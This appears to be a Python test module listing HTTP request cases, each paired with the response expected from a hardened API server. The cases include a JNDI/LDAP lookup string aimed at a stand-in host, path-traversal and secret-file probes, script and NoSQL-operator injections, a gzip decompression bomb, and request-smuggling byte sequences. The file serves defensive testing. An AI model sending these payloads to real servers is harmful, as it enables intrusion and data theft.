"""HTTP as clients, proxies and attackers write it: other methods, other types, other lengths, other ways."""

import gzip
from collections.abc import Iterator
from typing import Final

from tests import make
from tests.corpus.case import JSON, Case, Kept, Outcome, Refused, Told, id_of, report

NOT_JSON: Final = Refused(400, "not_json")
NO_METHOD: Final = Refused(405, "method_not_allowed")
NOT_THERE: Final = Refused(404, "not_found")
NO_HTTP: Final = Told(400)
HEAD_TOO_LARGE: Final = Refused(431, "headers_too_large")


def _sale(name: str) -> bytes:
    return report(name, make.sale_made(sale=f"s-{id_of(name)}"))


def _asked(name: str, outcome: Outcome, path: str, method: str = "GET", **headers: str) -> Case:
    return Case(name, outcome, path=path, method=method, headers={key.replace("_", "-"): value for key, value in headers.items()})


def _methods() -> Iterator[Case]:
    for method in ("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"):
        yield Case(f"{method} where reports go", NO_METHOD, _sale(method), method=method)
        yield _asked(f"{method} where a lot is asked for", NO_METHOD, "/api/v1/lots/l-1", method)
    for path in ("/api/v1/sales", "/api/v1/network/found-network", "/api/v1/devices", "/api/v1/agreements", "/api/v1/personal/erase"):
        yield _asked(f"GET of {path}", NO_METHOD, path)
    yield _asked("GET of a trial", Refused(404, "not_in_quarantine", "quarantine"), "/api/v1/quarantine/try")
    for path in ("/api/v1/inventory", "/api/v1/network", "/healthz", "/openapi.json", "/metrics", "/"):
        yield Case(f"POST to {path}", NO_METHOD, b"{}", path)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"):
        yield Case(f"a sale that says it is a deletion by {name}", Kept(), _sale(name), headers=JSON | {name: "DELETE"})
        yield _asked(f"a question that says it is a report by {name}", Told(200), "/api/v1/inventory", **{name: "POST"})


def _types() -> Iterator[Case]:
    """What is called what does not matter; what it is does. A browser's form has no key to send it with."""
    for kind in (
        "application/json; charset=utf-8", "application/json; charset=utf-16", "APPLICATION/JSON", "text/json", "text/plain",
        "application/cloudevents+json", "application/x-www-form-urlencoded", "application/octet-stream", "text/html", "multipart/form-data", "nonsense", "",
    ):  # fmt: skip
        yield Case(f"a sale called {kind!r}", Kept(), _sale(kind), headers={"Content-Type": kind})
    yield Case("a sale called nothing", Kept(), _sale("called nothing"), headers={})
    form = b'--x\r\nContent-Disposition: form-data; name="report"\r\n\r\n' + _sale("in a form") + b"\r\n--x--\r\n"
    yield Case("a sale in a form", NOT_JSON, form, headers={"Content-Type": "multipart/form-data; boundary=x"})
    yield Case("a sale in the words of a form", NOT_JSON, b"sale=s-1&units=2", headers={"Content-Type": "application/x-www-form-urlencoded"})
    packed = gzip.compress(_sale("packed"), mtime=0)
    for coding in ("gzip", "deflate", "br", "zstd", "gzip, gzip", "identity, gzip", "nonsense"):
        yield Case(f"a sale packed and called {coding}", NOT_JSON, packed, headers=JSON | {"Content-Encoding": coding})
    bomb = gzip.compress(b" " * 10_000_000, mtime=0)
    yield Case("ten megabytes of space, packed", NOT_JSON, bomb, headers=JSON | {"Content-Encoding": "gzip"})
    yield Case("a sale that only says it is packed", Kept(), _sale("says it is packed"), headers=JSON | {"Content-Encoding": "identity"})
    for accepted in ("text/html", "application/xml", "image/png", "application/json;q=0", "nonsense", "*/*;q=0"):
        yield Case(f"a sale whose sender wants {accepted}", Kept(), _sale(f"wants {accepted}"), headers=JSON | {"Accept": accepted})
        yield _asked(f"a question whose sender wants {accepted}", Told(200), "/api/v1/inventory", Accept=accepted)


def _headers() -> Iterator[Case]:
    for name, value in (
        ("X-Forwarded-For", "1.2.3.4"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https"), ("Forwarded", "for=1.2.3.4"),
        ("X-Original-URL", "/api/v1/network"), ("X-Rewrite-URL", "/healthz"), ("Host", "evil.example"), ("Origin", "https://evil.example"),
        ("Referer", "https://evil.example/"), ("Range", "bytes=0-1"), ("If-None-Match", '"x"'), ("If-Match", "*"), ("Expect", "200-ok"),
        ("Traceparent", "nonsense"), ("Traceparent", "00-" + "0" * 32 + "-" + "0" * 16 + "-00"), ("OVOP-Advice", "NONE"), ("OVOP-Advice", "x" * 5_000),
        ("OVOP-Chain-Head", "nonsense"), ("Cookie", "ovop_session=nonsense"), ("Cookie", "a=b;" * 1_000), ("Accept-Language", "x" * 5_000),
        ("User-Agent", "${jndi:ldap://evil}"), ("X-Request-Id", "<script>"), ("Content-Language", "ky"), ("Connection", "close"),
    ):  # fmt: skip
        yield Case(f"a sale with {name} of {value[:30]!r}", Kept(), _sale(f"{name} {value}"), headers=JSON | {name: value})
    many = {f"X-Header-{number}": "x" * 100 for number in range(200)}
    yield Case("a sale with 200 headers", Kept(), _sale("200 headers"), headers=JSON | many)
    too_much = {f"X-Header-{number}": "x" * 100 for number in range(400)}
    yield Case("a sale with 400 headers", HEAD_TOO_LARGE, _sale("400 headers"), headers=JSON | too_much)
    yield Case("a sale with a header of a megabyte", HEAD_TOO_LARGE, headers=JSON | {"X-Header": "x" * 1_000_000})
    yield _asked("a question of 40,000 letters", HEAD_TOO_LARGE, "/api/v1/inventory?place=" + "x" * 40_000)
    yield Case("a sale in pieces", Kept(), _sale("in pieces"), chunks=True)
    yield Case("a sale and space in pieces", Kept(), _sale("and space in pieces") + b" " * 20_000, chunks=True)
    yield Case("three megabytes in pieces", Refused(413, "too_large"), b'"' + b"x" * 3_000_000 + b'"', headers={})


def _paths() -> Iterator[Case]:
    for path in (
        "/api/v1", "/api/v2/events", "/api/v1/Events", "/API/v1/events", "/api/v1/events%00", "/api/v1/events;x=1", "/api/v1/events.json",
        "/api/v1//events", "//api/v1/events", "/api/v1/events%2f", "/api/v1/%65vents/x", "/api/v1/network/found-network/x", "/admin", "/.env", "/.git/config",
        "/wp-login.php", "/docs", "/redoc", "/static/../app.py", "/static/%2e%2e%2fapp.py", "/static/..%5capp.py", "/static/", "/static/%00",
    ):  # fmt: skip
        yield Case(f"a report to {path}", NO_METHOD if path in ("/static/%00", "/static/..%5capp.py") else NOT_THERE, b"{}", path)
        yield _asked(f"a question to {path}", NOT_THERE, path)
    yield Case("a slash behind", NOT_THERE, _sale("a slash behind"), "/api/v1/events/")
    yield _asked("a slash behind a question", NOT_THERE, "/api/v1/inventory/")
    yield Case("a way around", Kept(), _sale("a way around"), "/api/v1/%65vents")
    for name, path in {
        "a question with a parameter nobody knows": "/api/v1/inventory?colour=red",
        "a question with a parameter twice": "/api/v1/inventory?limit=1&limit=2",
        "a question without a value": "/api/v1/inventory?place",
        "a question of ampersands": "/api/v1/inventory?&&&&",
        "a question in brackets": "/api/v1/inventory?place[$ne]=x",
    }.items():
        yield _asked(name, Told(200), path)
    yield _asked("a parameter of 10,000 letters", Refused(422, "malformed", "place", "wrong_length"), "/api/v1/inventory?place=" + "x" * 10_000)
    yield _asked("a lot of 10,000 letters", Refused(422, "malformed", "lot", "wrong_length"), "/api/v1/lots/" + "x" * 10_000)


def _wires() -> Iterator[Case]:
    """The very bytes: what no proxy and no server should read in two ways is not read at all."""
    head = b"POST /api/v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
    end = b"Connection: close\r\n"

    def wire(name: str, outcome: Outcome, said: bytes, sent: bytes | None = None) -> Case:
        return Case(name, outcome, wire=said, sent=None if sent is None else (sent,))

    def sized(name: str, length: bytes, outcome: Outcome, body: bytes | None = None) -> Case:
        sale = _sale(name)
        return wire(name, outcome, head + end + b"Content-Length: " + length + b"\r\n\r\n" + (sale if body is None else body), sale)

    def chunked(name: str, outcome: Outcome, coding: bytes = b"chunked", *, size: bytes = b"%x", tail: bytes = b"0\r\n\r\n", more: bytes = b"") -> Case:
        sale = _sale(name)
        length = size % len(sale) if b"%" in size else size
        return wire(name, outcome, head + end + more + b"Transfer-Encoding: " + coding + b"\r\n\r\n" + length + b"\r\n" + sale + b"\r\n" + tail, sale)

    right = str(len(_sale("the right length"))).encode()
    yield sized("the right length", right, Kept())
    yield sized("a length with a plus", b"+" + right, NO_HTTP)
    yield sized("a length below nothing", b"-1", NO_HTTP)
    yield sized("a hexadecimal length", b"0x10", NO_HTTP)
    yield sized("a length with a comma", right + b"," + right, NO_HTTP)
    yield sized("a length of words", b"long", NO_HTTP)
    yield sized("a length beyond 64 bits", b"99999999999999999999999", NO_HTTP)
    yield sized("no length at all", b"", NO_HTTP)
    yield sized("a length that is too short", b"10", NOT_JSON)
    yield sized("a length that is too long", b"5000", Told(0))
    sale = _sale("two lengths")
    lengths = b"Content-Length: 1\r\nContent-Length: " + str(len(sale)).encode() + b"\r\n"
    yield wire("two lengths", NO_HTTP, head + end + lengths + b"\r\n" + sale)
    yield chunked("pieces", Kept())
    yield chunked("pieces and a length", NO_HTTP, more=b"Content-Length: 5\r\n")
    yield chunked("pieces with a name", Kept(), size=b"%x;name=value")
    yield chunked("pieces with a trailer", Kept(), tail=b"0\r\nX-Trailer: x\r\n\r\n")
    yield chunked("a piece below nothing", NO_HTTP, size=b"-5")
    yield chunked("a piece of words", NO_HTTP, size=b"long")
    yield chunked("a piece with a prefix", NO_HTTP, size=b"0x10")
    yield chunked("a piece beyond 64 bits", NO_HTTP, size=b"ffffffffffffffffff")
    yield chunked("a piece that is too short", NO_HTTP, size=b"5")
    yield chunked("pieces that never end", Told(0), tail=b"")
    yield chunked("pieces coded twice", NO_HTTP, b"chunked, gzip")
    yield chunked("pieces by another name", NO_HTTP, b"xchunked")
    yield chunked("pieces with a tab", NO_HTTP, b"\x0bchunked")
    yield wire("a first line of nonsense", NO_HTTP, b"nonsense\r\n\r\n")
    yield wire("a first line of binary", NO_HTTP, bytes(range(128, 256)) + b"\r\n\r\n")
    yield wire("a greeting of TLS", NO_HTTP, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 60)
    yield wire("a greeting of HTTP/2", NO_HTTP, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield wire("a version of HTTP that is none", NO_HTTP, b"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n")
    yield wire("the first HTTP", Told(200), b"GET /healthz HTTP/1.0\r\n\r\n")
    yield wire("a header without a colon", NO_HTTP, head + end + b"nonsense\r\n\r\n")
    yield wire("a header with a space before its colon", NO_HTTP, head + end + b"Content-Length : 5\r\n\r\n{}   ")
    yield wire("a header with a NUL", NO_HTTP, head + end + b"X-A: a\x00b\r\nContent-Length: 2\r\n\r\n{}")
    endless = b"X-A: " + b"x" * 1_000_000
    yield wire("a header that never ends", Told(431), head + endless)
    yield chunked("pieces with a trailer that never ends", Told(0), tail=b"0\r\n" + endless)
    yield wire("a header over two lines", NO_HTTP, head + end + b"X-A: a\r\n b\r\nContent-Length: 2\r\n\r\n{}")
    yield wire("a method in small letters", NO_HTTP, b"post /api/v1/events HTTP/1.1\r\nHost: x\r\n" + end + b"\r\n")
    yield wire("an address with a space", NO_HTTP, b"GET /api/v1/inventory place HTTP/1.1\r\nHost: x\r\n" + end + b"\r\n")
    yield wire("an address of another host", NOT_THERE, b"GET http://evil.example/x HTTP/1.1\r\nHost: x\r\n" + end + b"\r\n")
    yield wire("a star for an address", NOT_THERE, b"GET * HTTP/1.1\r\nHost: x\r\n" + end + b"\r\n")
    yield wire("an address with raw bytes", NO_HTTP, b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\n" + end + b"\r\n")
    upgrade = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    yield wire("a web socket", Told(403), b"GET /api/v1/stream HTTP/1.1\r\nHost: x\r\n" + upgrade + b"\r\n")
    sale = _sale("a sale that is waited for")
    waits = b"Expect: 100-continue\r\nContent-Length: " + str(len(sale)).encode() + b"\r\n\r\n"
    yield wire("a sale that is waited for", Kept(), head + end + waits + sale, sale)
    yield wire("a method nobody knows", NO_HTTP, b"BREW /api/v1/events HTTP/1.1\r\nHost: x\r\n" + end + b"\r\n")


CASES: Final = (*_methods(), *_types(), *_headers(), *_paths(), *_wires())
